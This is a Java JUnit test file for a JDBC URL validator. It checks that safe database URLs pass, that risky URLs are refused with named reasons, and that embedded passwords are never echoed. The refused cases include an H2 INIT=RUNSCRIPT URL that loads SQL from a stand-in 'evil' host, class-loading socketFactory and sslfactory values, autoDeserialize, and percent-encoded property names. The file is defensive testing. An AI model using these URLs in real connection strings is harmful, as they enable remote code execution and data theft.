package dev.reshard.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import dev.reshard.core.InvalidInputException;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlsTest {
    private static final String SENTINEL = "S3ntinel-pw-9";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db1:5432/app",
                "jdbc:postgresql://db1/app?sslmode=verify-full&sslrootcert=/etc/ca.pem&ApplicationName=reshard",
                "jdbc:postgresql://db1:5432,db2:5433/app?targetServerType=primary&connectTimeout=5",
                "jdbc:postgresql://[::1]:5432/app",
                "jdbc:postgresql:app",
                "jdbc:mariadb://db2:3306/app?sslMode=verify-full&connectTimeout=5000",
                "jdbc:mysql://db2/app",
                "jdbc:h2:file:/var/lib/reshard/shard_0",
                "jdbc:h2:/tmp/x;MODE=PostgreSQL;DB_CLOSE_DELAY=-1",
                "jdbc:h2:./data/shard_1;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://localhost:9092/~/shard_2"
            })
    void vet_supportedUrls_pass(String url) {
        JdbcUrls.Vetted v = JdbcUrls.vet("shards[0].url", url);

        assertThat(v.problems()).isEmpty();
        assertThat(v.durable()).isTrue();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'|contains a space",
                "jdbc:h2:file:/tmp/x;INIT=CREATE_ALIAS|sets INIT, which runs SQL on connect",
                "jdbc:h2:file:/tmp/x;init=x|sets INIT, which runs SQL on connect",
                "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3|sets TRACE_LEVEL_FILE, which writes a trace file",
                "jdbc:h2:file:/tmp/x;FOO=1|sets FOO, which is not a property Reshard allows",
                "jdbc:h2:zip:/tmp/x.zip!/db|uses the H2 storage 'zip:'",
                "jdbc:postgresql://db/app?socketFactory=org.x.Evil|sets socketFactory, which loads the Java class",
                "jdbc:postgresql://db/app?sslfactory=org.x.Evil|sets sslfactory, which loads the Java class",
                "jdbc:postgresql://db/app?sslhostnameverifier=org.x.V|sets sslhostnameverifier, which loads",
                "jdbc:postgresql://db/app?loggerFile=/tmp/log|sets loggerFile, which writes a log file",
                "jdbc:postgresql://db/app?authenticationPluginClassName=x|sets authenticationPluginClassName",
                "jdbc:postgresql://db/app?%73ocketFactory=x|sets socketFactory, which loads",
                "jdbc:postgresql://db/app?sslmode=require&sslmode=disable|sets sslmode twice",
                "jdbc:postgresql://db:notaport/app|has the port 'notaport', which is not a number from 1 to 65535",
                "jdbc:postgresql://db:70000/app|has the port '70000'",
                "jdbc:postgresql://db:5432/|names no database",
                "jdbc:mariadb://db/app?allowLoadLocalInfile=true|sets allowLoadLocalInfile, which lets the server",
                "jdbc:mariadb://db/app?autoDeserialize=true|sets autoDeserialize, which deserializes",
                "jdbc:mysql://db/app?allowMultiQueries=true|sets allowMultiQueries",
                "jdbc:sqlite:/tmp/x.db|uses the driver 'sqlite', which Reshard does not support",
                "jdbc:|names no database driver",
                "postgresql://db/app|is not a JDBC URL",
            })
    void vet_refusedUrls_nameTheProblem(String url, String problem) {
        List<InvalidInputException> problems =
                JdbcUrls.vet("shards[2].url", url).problems();

        assertThat(problems).isNotEmpty();
        assertThat(problems)
                .anySatisfy(p ->
                        assertThat(p.getMessage()).startsWith("shards[2].url: ").contains(problem));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://u:" + SENTINEL + "@db/app",
                "jdbc:postgresql://db/app?password=" + SENTINEL,
                "jdbc:postgresql://db/app?password%20=" + SENTINEL,
                "jdbc:postgresql://db/app?pa%73sword=" + SENTINEL,
                "jdbc:postgresql://db/app?PASSWORD=" + SENTINEL,
                "jdbc:mariadb://db/app?pwd=" + SENTINEL,
                "jdbc:mariadb://db/app?foo=" + SENTINEL,
                "jdbc:h2:file:/tmp/x;PASSWORD=" + SENTINEL,
                "jdbc:h2:file:/tmp/x;password =" + SENTINEL
            })
    void vet_credentialsInTheUrl_areRefusedWithoutEchoingThem(String url) {
        List<InvalidInputException> problems = JdbcUrls.vet("catalog.url", url).problems();

        assertThat(problems).isNotEmpty();
        assertThat(problems)
                .allSatisfy(p ->
                        assertThat(p.getMessage()).startsWith("catalog.url: ").doesNotContain(SENTINEL));
        assertThat(JdbcUrls.mask(url)).doesNotContain(SENTINEL);
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:shard", "jdbc:h2:mem:", "jdbc:h2:memFS:x", "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1"})
    void vet_inMemoryH2_isNotDurable(String url) {
        JdbcUrls.Vetted v = JdbcUrls.vet("shards[0].url", url);

        assertThat(v.problems()).isEmpty();
        assertThat(v.durable()).isFalse();
    }
}
